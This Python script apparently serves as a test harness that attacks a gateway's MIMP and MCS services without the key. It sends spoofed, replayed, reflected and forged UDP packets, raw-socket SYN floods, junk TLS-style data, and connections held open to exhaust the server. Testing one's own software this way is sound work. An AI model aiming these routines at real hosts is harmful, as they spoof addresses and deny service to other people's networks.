#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""What an attacker can send to a gateway without knowing its key.

usage: attack.py mimp KIND --from ADDRESS --to ADDRESS [--port N] [--count N] CAPTURE
       attack.py tcp KIND --to ADDRESS [--from ADDRESS] [--port N] [--count N]

mimp: UDP packets with a source address of our choice, made from those that the
peer really sent (CAPTURE, a pcap file). KIND:
  replayed   as they were
  reflected  those that went the other way, sent back
  forged     as they were, but with one byte changed that matters: the priority
  version    with version 0
  garbage    of random content and length
  foreign    as they were, from this node's own address
tcp: connections to the port of MCS. KIND:
  garbage    random bytes, some of them after the start of a TLS record
  silent     connected, and held until this program is ended
  syn        first packets of handshakes that never go on

Prints how many were sent; `silent` prints when all are connected.
"""

import argparse
import random
import signal
import socket
import struct
import sys

from capture import UDP, frames

PRIORITY_AT = 48 + 12   # in the first block, behind type, length and two ids
seed = random.Random(2026)


def datagrams(path, port, source):
    """Payloads of the UDP packets to `port` that `source` sent."""
    for _, _, ip in frames(path):
        header = (ip[0] & 15) * 4
        if ip[9] != UDP or socket.inet_ntoa(ip[12:16]) != source:
            continue
        if struct.unpack("!H", ip[header + 2:header + 4])[0] == port:
            yield ip[header + 8:]


def forge(payload):
    changed = bytearray(payload)
    changed[PRIORITY_AT] ^= 0xFF
    return bytes(changed)


def mimp(args):
    own = list(datagrams(args.capture, args.port, args.source))
    if args.kind == "reflected":
        own = list(datagrams(args.capture, args.port, args.to))
    if not own:
        sys.exit(f"attack.py: no packet to replay in {args.capture}")
    change = {"forged": forge, "version": lambda p: b"\0" + p[1:],
              "garbage": lambda p: seed.randbytes(seed.randrange(1, 79))}.get(args.kind, lambda p: p)
    if args.kind == "foreign":
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(args.count):
        payload = change(own[number % len(own)])
        if args.kind == "foreign":
            sock.sendto(payload, (args.to, args.port))
            continue
        udp = struct.pack("!HHHH", args.port, args.port, 8 + len(payload), 0) + payload
        sock.sendto(ip_header(args, UDP, len(udp)) + udp, (args.to, 0))
    return args.count


def ip_header(args, proto, length):
    # Checksum and identification are filled in by the kernel.
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, proto, 0) + \
        socket.inet_aton(args.source) + socket.inet_aton(args.to)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(args):
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    pseudo = socket.inet_aton(args.source) + socket.inet_aton(args.to) + struct.pack("!HH", socket.IPPROTO_TCP, 20)
    for number in range(args.count):
        head = [10000 + number, args.port, seed.getrandbits(32), 0, 5 << 4, 2, 1024, 0, 0]
        head[7] = checksum(pseudo + struct.pack("!HHIIBBHHH", *head))
        tcp = struct.pack("!HHIIBBHHH", *head)
        sock.sendto(ip_header(args, socket.IPPROTO_TCP, len(tcp)) + tcp, (args.to, 0))
    return args.count


def connections(args):
    for _ in range(args.count):
        source = (args.source, 0) if args.source else None
        try:
            yield socket.create_connection((args.to, args.port), timeout=20, source_address=source)
        except OSError:
            continue    # refused is as good an answer as a close


def tcp(args):
    if args.kind == "syn":
        return syn(args)
    if args.kind == "silent":
        held = list(connections(args))
        print(len(held), flush=True)
        signal.sigwait({signal.SIGTERM, signal.SIGINT})
        return len(held)
    sent = 0
    for number, sock in enumerate(connections(args)):
        head = b"\x16\x03\x01\x02\x00\x01\x00" if number % 2 else b""
        try:
            sock.sendall(head + seed.randbytes(600))
            while sock.recv(4096):
                pass
        except OSError:
            pass
        sock.close()
        sent += 1
    return sent


def main():
    parser = argparse.ArgumentParser()
    what = parser.add_subparsers(dest="what", required=True)
    for name, kinds in (("mimp", ("replayed", "reflected", "forged", "version", "garbage", "foreign")),
                        ("tcp", ("garbage", "silent", "syn"))):
        sub = what.add_parser(name)
        sub.add_argument("kind", choices=kinds)
        sub.add_argument("--from", dest="source", default="")
        sub.add_argument("--to", required=True)
        sub.add_argument("--port", type=int, default=7655 if name == "mimp" else 7656)
        sub.add_argument("--count", type=int, default=20)
        if name == "mimp":
            sub.add_argument("capture")
    args = parser.parse_args()
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT} if args.kind == "silent" else set())
    print(mimp(args) if args.what == "mimp" else tcp(args), flush=True)


if __name__ == "__main__":
    main()
